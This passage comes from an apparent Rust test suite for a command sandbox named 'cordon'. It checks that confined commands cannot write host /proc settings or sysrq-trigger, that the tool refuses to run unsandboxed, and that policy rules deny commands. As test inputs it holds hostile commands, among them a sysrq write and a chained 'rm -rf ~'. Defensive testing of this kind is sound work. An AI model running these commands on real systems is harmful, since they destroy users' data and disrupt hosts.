        String::from_utf8_lossy(&o.stdout).contains('y'),
        "[{}] private /tmp must be writable: {}",
        c.label(),
        text(&o)
    );
}

fn proc_writes(c: &Case) {
    // /proc files that act on the whole machine. As root, file modes alone would allow some
    // (sysrq-trigger has no capability check). A harmless tunable stands in for them: if the
    // write got through, the host's value changes (and is put back).
    let knob = "/proc/sys/vm/dirty_background_ratio";
    // One variant at a time: they would see each other's change otherwise.
    static KNOB: std::sync::Mutex<()> = std::sync::Mutex::new(());
    let _guard = KNOB.lock().unwrap_or_else(|e| e.into_inner());
    let before = std::fs::read_to_string(knob).unwrap();
    let v: u32 = before.trim().parse().unwrap();
    let o = c.sh(&format!(
        "echo {} > {knob}; echo h > /proc/sysrq-trigger && echo SYSRQ-WRITTEN",
        if v > 5 { v - 1 } else { v + 1 }
    ));
    let after = std::fs::read_to_string(knob).unwrap();
    if after != before {
        let _ = std::fs::write(knob, &before);
    }
    assert_eq!(
        after,
        before,
        "[{}] a /proc/sys tunable of the host changed: {}",
        c.label(),
        text(&o)
    );
    assert!(
        !text(&o).contains("SYSRQ-WRITTEN"),
        "[{}] wrote /proc/sysrq-trigger",
        c.label()
    );
}

fn refuses_without_any_fence(c: &Case) {
    // No user namespaces and no Landlock: cordon refuses (125) and runs nothing...
    let marker = c.ws.join("out/ran");
    let script = format!("echo ran > {}", marker.display());
    let o = c
        .command(&["run", "--", "sh", "-c", &script])
        .env("CORDON_NO_USERNS", "1")
        .env("CORDON_ASSUME_NO_LANDLOCK", "1")
        .output()
        .unwrap();
    assert_eq!(code(&o), 125, "[{}] {}", c.label(), text(&o));
    assert!(
        text(&o).contains("refusing to run unconfined"),
        "{}",
        text(&o)
    );
    assert!(
        !marker.exists(),
        "[{}] the command ran unconfined",
        c.label()
    );
    // ...unless told to run without a sandbox.
    let o = c
        .command(&[
            "run",
            "--mode",
            "danger-full-access",
            "--",
            "sh",
            "-c",
            &script,
        ])
        .env("CORDON_NO_USERNS", "1")
        .env("CORDON_ASSUME_NO_LANDLOCK", "1")
        .output()
        .unwrap();
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert!(marker.exists() && text(&o).contains("no sandbox at all"));
}

fn run_policy(c: &Case) {
    // `cordon run` consults the policy first: deny refuses (126) and nothing runs.
    let pol = c.ws.join("out/policy.toml");
    std::fs::write(
        &pol,
        "[[rule]]\ndecision = \"deny\"\ncommand = [\"touch\"]\nreason = \"no touching in this test\"\nexamples = [\"touch x\"]\n",
    )
    .unwrap();
    c.chown_all();
    let marker = c.ws.join("out/touched");
    let m = marker.to_str().unwrap();
    let o = c.cordon(&["run", "--policy", pol.to_str().unwrap(), "--", "touch", m]);
    assert_eq!(code(&o), 126, "[{}] {}", c.label(), text(&o));
    assert!(
        text(&o).contains("no touching in this test"),
        "{}",
        text(&o)
    );
    assert!(!marker.exists(), "[{}] a denied command ran", c.label());
    // The built-in rules refuse through a shell string too; the sandbox is never reached.
    let o = c
        .command_with_policy(&["run", "-c", "echo hi; rm -rf ~"])
        .output()
        .unwrap();
    assert_eq!(code(&o), 126, "[{}] {}", c.label(), text(&o));
    assert!(c.home.join(".bashrc").exists());
    // --explain says the decision of what runs.
    let o = c
        .command_with_policy(&["run", "--explain", "--", "ls"])
        .output()
        .unwrap();
    assert_eq!(code(&o), 0, "{}", text(&o));
    assert!(text(&o).contains("allow ("), "{}", text(&o));
}

variants!(
    run_policy,
    refuses_without_any_fence,
    proc_writes,
    write_outside,
    write_through_symlink,
    write_through_hardlink,
    append_bashrc,
    read_secrets,
    home_as_workspace,
    read_secret_with_flag,
    secret_env,
    other_process,
    network,
    unix_socket,
    unix_sockets_anywhere,
    unix_sockets_created_later,
    abstract_socket,
    kernel_surface,
    int80,
    persistence,
    no_git_repo_cannot_be_planted,
    no_setuid_left_behind,
    daemon_left_behind,
    cwd_widening,
    fd_leak,
    fork_bomb_limited,
    timeout_kills_everything,
    exit_statuses,
    read_only_mode,
);
